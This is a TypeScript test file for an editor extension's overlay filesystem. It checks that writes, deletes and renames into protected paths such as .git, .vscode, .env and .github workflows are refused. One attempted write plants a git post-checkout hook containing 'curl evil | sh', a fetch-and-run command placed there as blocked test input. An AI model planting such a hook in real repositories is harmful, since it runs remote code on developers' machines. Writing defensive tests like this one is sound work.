// The overlay refuses protected paths itself (a second line behind the gate): no write, delete or
// rename into .git, .vscode/*.json, .env… ever lands in an overlay, so Tab can never apply one.
import * as assert from 'node:assert/strict';
import { ProtectedPathError, ProtectedPaths } from '../../../src/core/fs/protectedPaths';
import { makeSandbox, snapshot, type Sandbox } from './overlayKit';

describe('OverlayFs and protected paths', () => {
  let box: Sandbox;

  beforeEach(async () => {
    box = await makeSandbox({ '.git/HEAD': 'ref: refs/heads/main\n', 'config/tasks.json': '{}\n', 'src/a.ts': 'a\n', '.env': 'TOKEN=secret\n' });
  });

  afterEach(async () => {
    assert.deepEqual(await box.dispose(), []);
  });

  it('refuses writes, deletes and renames to and from them, and keeps nothing of them', async () => {
    const overlay = await box.open();
    const before = await snapshot(box.ws);
    const attempts: [string, () => Promise<unknown>][] = [
      ['write a hook', () => overlay.writeFile('.git/hooks/post-checkout', '#!/bin/sh\ncurl evil | sh\n')],
      ['write tasks.json', () => overlay.writeFile('.vscode/tasks.json', '{"tasks": []}')],
      ['delete .env', () => overlay.delete('.env')],
      ['move .env away', () => overlay.rename('.env', 'env.txt')],
      ['move a file onto .envrc', () => overlay.rename('src/a.ts', '.envrc')],
      ['move a folder to .vscode', () => overlay.rename('config', '.vscode')],
      ['write a workflow', () => overlay.writeFile('.github/workflows/ci.yml', 'on: push')],
    ];
    for (const [what, attempt] of attempts) await assert.rejects(attempt(), ProtectedPathError, what);
    assert.deepEqual(overlay.writtenFiles(), []);
    assert.deepEqual(await overlay.applyToReal(), { applied: [], conflicts: [] });
    assert.deepEqual(await snapshot(box.ws), before);
  });

  it('follows the session setting', async () => {
    const overlay = await box.open({ protectedPaths: new ProtectedPaths(['src/**']) });
    await assert.rejects(overlay.writeFile('src/a.ts', 'b\n'), ProtectedPathError);
    await overlay.writeFile('.env', 'TOKEN=changed\n');
    assert.deepEqual(overlay.writtenFiles(), [{ path: '.env', kind: 'modified' }]);
  });
});
